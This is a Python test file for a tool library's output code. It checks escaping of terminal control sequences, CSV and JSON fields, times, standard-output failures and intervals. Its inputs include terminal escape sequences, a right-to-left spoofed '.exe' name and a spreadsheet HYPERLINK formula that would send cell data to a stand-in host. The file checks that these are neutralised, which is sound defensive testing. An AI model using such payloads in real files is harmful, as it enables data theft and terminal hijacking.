"""Output: escaping, times, and standard output that fails."""
from __future__ import annotations

import argparse
import csv
import io
import json
import os
import re
import subprocess
import time

import hypothesis
import pytest
from hypothesis import strategies as st

from pytools.tool import arguments
from pytools.tool.waiting import Waiting, intervals
from pytools.base.errors import Failure
from pytools.show.output import Clock, Output
from support import ROOT
from pytools.base.text import csv_field, escape, escape_line, json_text, text_of

pytestmark = pytest.mark.rendering

FORMULA = "=+-@\uff1d\uff0b\uff0d\uff20"  # what a spreadsheet takes for the start of one


@pytest.mark.parametrize(
    "data, shown",
    [
        (b"plain name.txt", "plain name.txt"),
        (b"a\nb\tc\r", "a\\x0ab\\x09c\\x0d"),
        (b"\x1b[2J\x1b]0;title\x07", "\\x1b[2J\\x1b]0;title\\x07"),
        (b"\x00\x7f", "\\x00\\x7f"),
        ("\x85\x9b31m".encode(), "\\x85\\x9b31m"),  # C1: 0x9b begins a sequence
        (b"\x9b31m\xff", "\\x9b31m\\xff"),  # the same byte, not UTF-8
        ("\u202egnp.exe".encode(), "\\u202egnp.exe"),  # right to left
        ("\u2066\u200b\ufeff\u2028".encode(), "\\u2066\\u200b\\ufeff\\u2028"),
        ("\U000e0041".encode(), "\\U000e0041"),
        (b"C:\\dir", "C:\\\\dir"),
        ("größe 東京 😀".encode(), "größe 東京 😀"),
    ],
)
def test_what_moves_a_terminal_is_escaped(data: bytes, shown: str) -> None:
    assert escape(text_of(data)) == shown


@hypothesis.given(st.binary())
def test_escaped_text_is_printable_and_tells_all_bytes_apart(data: bytes) -> None:
    shown = escape(text_of(data))
    assert shown.isprintable()

    def back(match: re.Match[str]) -> str:
        if match.group(0) == "\\\\":
            return "\\"
        number = int(match.group(0)[2:], 16)
        return chr(number)

    # \x80 to \xff stand for a character or for a byte: equal but for that.
    decoded = re.sub(r"\\\\|\\x..|\\u....|\\U........", back, shown)
    same = "".join(chr(ord(c) - 0xDC00) if 0xDC80 <= ord(c) <= 0xDCFF else c for c in text_of(data))
    assert decoded == same


@hypothesis.given(st.binary())
def test_json_gives_every_byte_back(data: bytes) -> None:
    text = json_text(text_of(data))
    assert text.isascii() and text.isprintable()
    assert json.loads(text).encode("utf-8", "surrogateescape") == data


@hypothesis.given(st.lists(st.binary(), min_size=1))
def test_csv_fields_stay_fields(values: list[bytes]) -> None:
    line = ",".join(csv_field(text_of(value)) for value in values)
    assert line.isprintable()
    if len(values) > 1 or values[0]:
        (row,) = csv.reader(io.StringIO(line + "\n"))
        shown = [escape(text_of(value)) for value in values]
        # A character that would begin a formula is an escape; see below.
        assert [
            field
            if not text or text[0] not in FORMULA
            else text[0] + field[len(field) - len(text) + 1 :]
            for field, text in zip(row, shown)
        ] == shown


def test_csv_has_numbers_raw_and_nothing_for_none() -> None:
    assert [csv_field(value) for value in (None, 0, -1, 1.5)] == ["", "0", "-1", "1.5"]


def test_a_message_is_one_line_without_control_characters() -> None:
    assert escape_line("one\n\ttwo\x1b[31m \\n \udcff") == "one\\x0a\ttwo\\x1b[31m \\n \\xff"


@hypothesis.given(st.text())
def test_any_message_is_one_line(text: str) -> None:
    assert escape_line(text).replace("\t", "").isprintable()


@pytest.mark.parametrize(
    "text, shown",
    [
        ("e\u0301te\u0301", "e\u0301te\u0301"),  # as macOS has it
        ("\u0e01\u0e34\u0e48", "\u0e01\u0e34\u0e48"),  # Thai
        ("\u0301a", "\\u0301a"),  # it would be on the blank before the column
        ("a" + "\u0300" * 6, "a" + "\u0300" * 4 + "\\u0300" * 2),
        ("a\u20dd\u0488", "a\u20dd\u0488"),
        (
            "\u3164\u115f\u2800\ufe0f\u034f\U000e0100",
            "\\u3164\\u115f\\u2800\\ufe0f\\u034f\\U000e0100",
        ),
    ],
)
def test_marks_stand_on_a_character_and_nothing_is_unseen(text: str, shown: str) -> None:
    assert escape(text) == shown


@pytest.mark.parametrize("first", FORMULA)
def test_no_csv_field_is_a_spreadsheet_s_formula(first: str) -> None:
    """The data of users, in every tool: file names, arguments, names of commands and hosts."""
    field = csv_field(first + 'HYPERLINK("http://x/"&A1,"x")')
    (row,) = csv.reader(io.StringIO(field + "\n"))
    assert row[0][0] == "\\" and row[0][1] in "xu"
    # A tab or an end of line before it would be left out by the spreadsheet.
    assert csv_field("\t=1") == "\\x09=1" and csv_field("\r=1") == "\\x0d=1"
    assert [csv_field(-1), csv_field(-1.5)] == ["-1", "-1.5"]


# Times.


@hypothesis.given(st.integers(0, 4102444800 * 10**9))
def test_times_are_rfc_3339_in_utc(nanoseconds: int) -> None:
    clock = Clock()
    text = clock.rfc3339(nanoseconds - clock._offset)
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z", text)
    seconds = time.strptime(text[:19], "%Y-%m-%dT%H:%M:%S")
    assert text[:19] == time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(nanoseconds // 10**9))
    assert int(text[20:26]) == nanoseconds % 10**9 // 1000
    assert seconds.tm_year >= 1970


def test_a_monotonic_time_becomes_the_wall_clock_s() -> None:
    clock = Clock()
    before = clock.rfc3339()
    between = clock.rfc3339(time.monotonic_ns())
    after = clock.rfc3339()
    # Reading two clocks is not one moment: let a millisecond's digits differ.
    assert before[:16] <= between[:16] <= after[:16]


@pytest.mark.host_only
def test_the_kernel_s_time_is_the_same_in_a_time_namespace() -> None:
    """By the time of the namespace, events would be a day old, and negative seconds since the
    start; what lasts on a CPU (cpudist) would be left out."""
    code = "from pytools.base.system import kernel_time; print(kernel_time())"
    before = time.monotonic_ns()
    result = subprocess.run(
        ["unshare", "-T", "--monotonic", "86400", "/usr/bin/python3", "-c", code],
        capture_output=True, text=True, check=True, cwd=ROOT / "lib",
    )  # fmt: skip
    assert before < int(result.stdout) < time.monotonic_ns()


# Standard output, as a descriptor.


@pytest.fixture
def standard_output() -> object:
    """What a test puts at descriptor 1 is gone afterwards."""
    saved = os.dup(1)
    yield saved
    os.dup2(saved, 1)
    os.close(saved)


def test_a_full_device_is_a_failure(standard_output: object) -> None:
    full = os.open("/dev/full", os.O_WRONLY)
    os.dup2(full, 1)
    os.close(full)
    with pytest.raises(Failure, match="cannot write to standard output: No space left"):
        Output("tool").write("text")


def test_a_closed_output_is_a_failure(standard_output: object) -> None:
    os.close(1)
    with pytest.raises(Failure, match="standard output is closed"):
        Output("tool")


def test_a_reader_that_went_away_is_a_broken_pipe(standard_output: object) -> None:
    reading, writing = os.pipe()
    os.dup2(writing, 1)
    os.close(writing)
    os.close(reading)
    with pytest.raises(BrokenPipeError):
        Output("tool").write("text")


def test_a_slow_reader_of_a_nonblocking_pipe_gets_everything(standard_output: object) -> None:
    reading, writing = os.pipe()
    os.dup2(writing, 1)
    os.close(writing)
    os.set_blocking(1, False)
    child = os.fork()
    if not child:
        os.close(reading)
        Output("tool").write("x" * 1_000_000)
        os._exit(0)
    os.dup2(2, 1)  # only the child holds the writing end
    with open(reading, "rb") as pipe:
        assert len(pipe.read()) == 1_000_000
    assert os.waitpid(child, 0)[1] == 0


# Numbers on the command line, and intervals.


@hypothesis.given(st.text())
def test_no_text_makes_a_number_type_fail_in_another_way(text: str) -> None:
    for kind in (
        arguments.positive,
        arguments.not_negative,
        arguments.pid,
        arguments.number_from(1),
    ):
        try:
            value = kind(text)
        except argparse.ArgumentTypeError:
            continue
        assert 0 <= value < 2**63


@pytest.mark.parametrize(
    "text", ["-1", "nan", "inf", "1e10", "", "x", "0x10", "-0.1", "1_0", " 1", "１"]
)
def test_a_duration_is_a_number_from_zero_on(text: str) -> None:
    with pytest.raises(argparse.ArgumentTypeError):
        arguments.not_negative(text)


def test_a_number_that_is_too_large_is_told_how_large_it_may_be() -> None:
    for kind, text, words in (
        (arguments.not_negative, "1e10", "'1e10' is not a number from 0 to 1000000000"),
        (arguments.not_negative, "1e400", "'1e400' is not a number from 0 to 1000000000"),
        (
            arguments.number_from(1),
            str(2**63),
            f"'{2**63}' is not a whole number from 1 to {2**63 - 1}",
        ),
        (arguments.number_from(1), "0", "'0' is not a whole number from 1 on"),
    ):
        with pytest.raises(argparse.ArgumentTypeError, match=re.escape(words)):
            kind(text)


def test_a_wait_may_be_longer_than_poll_takes() -> None:
    """30 years, which are more milliseconds than an int has."""
    ready, end = os.pipe()
    child = os.fork()
    if child == 0:
        status = 1
        try:
            waiting = Waiting()
            waiting.watch(ready)
            waiting.once(arguments.MOST_SECONDS)
            status = 0
        finally:
            os._exit(status)
    os.write(end, b"x")
    status = os.waitpid(child, 0)[1]
    for descriptor in (ready, end):
        os.close(descriptor)
    assert status == 0


class Time:
    """A clock that only waiting moves, in place of Waiting and time.monotonic."""

    def __init__(self, late: float = 0.0, ended_at: float = 1e9) -> None:
        self.now = 1000.0
        self.late = late
        self.ended_at = 1000.0 + ended_at
        self.ended = False

    def monotonic(self) -> float:
        return self.now

    def until(self, deadline: float | None) -> bool:
        wake = self.ended_at if deadline is None else max(self.now, deadline) + self.late
        self.ended = wake >= self.ended_at
        self.now = min(wake, self.ended_at)
        return not self.ended


def ends(
    monkeypatch: pytest.MonkeyPatch,
    clock: Time,
    interval: float | None = None,
    count: int | None = None,
    duration: float | None = None,
) -> list[tuple[float, bool]]:
    """(time, last) of each end of an interval."""
    monkeypatch.setattr(time, "monotonic", clock.monotonic)
    options = argparse.Namespace(interval=interval, count=count, duration=duration)
    return [
        (round(clock.now - 1000, 6), last)
        for last in intervals(options, clock)  # type: ignore[arg-type]
    ]


def test_intervals_end_by_count(monkeypatch: pytest.MonkeyPatch) -> None:
    assert ends(monkeypatch, Time(), 1, 3) == [(1, False), (2, False), (3, True)]


def test_intervals_end_by_duration(monkeypatch: pytest.MonkeyPatch) -> None:
    assert ends(monkeypatch, Time(), 1, None, 2.5) == [(1, False), (2, False), (2.5, True)]
    assert ends(monkeypatch, Time(), 1, None, 2) == [(1, False), (2, True)]
    assert ends(monkeypatch, Time(), 10, 5, 2) == [(2, True)]


def test_a_duration_of_zero_is_one_last_interval(monkeypatch: pytest.MonkeyPatch) -> None:
    assert ends(monkeypatch, Time(), None, None, 0) == [(0, True)]
    assert ends(monkeypatch, Time(), 1, 5, 0) == [(0, True)]


def test_without_interval_only_an_interrupt_ends(monkeypatch: pytest.MonkeyPatch) -> None:
    assert ends(monkeypatch, Time(ended_at=7)) == [(7, True)]


def test_an_interrupt_ends_within_an_interval(monkeypatch: pytest.MonkeyPatch) -> None:
    assert ends(monkeypatch, Time(ended_at=2.5), 1) == [(1, False), (2, False), (2.5, True)]


def test_lateness_does_not_add_up(monkeypatch: pytest.MonkeyPatch) -> None:
    assert ends(monkeypatch, Time(late=0.1), 1, 3) == [(1.1, False), (2.1, False), (3.1, True)]


def test_after_a_long_stop_intervals_do_not_come_in_a_rush(monkeypatch: pytest.MonkeyPatch) -> None:
    clock = Time()
    times = []
    monkeypatch.setattr(time, "monotonic", clock.monotonic)
    options = argparse.Namespace(interval=1.0, count=5, duration=None)
    for _ in intervals(options, clock):  # type: ignore[arg-type]
        times.append(clock.now - 1000)
        if len(times) == 2:
            clock.now += 3600
    steps = [after - before for before, after in zip(times, times[1:])]
    assert steps[1] == 3600
    assert sum(step == 0 for step in steps) == 0
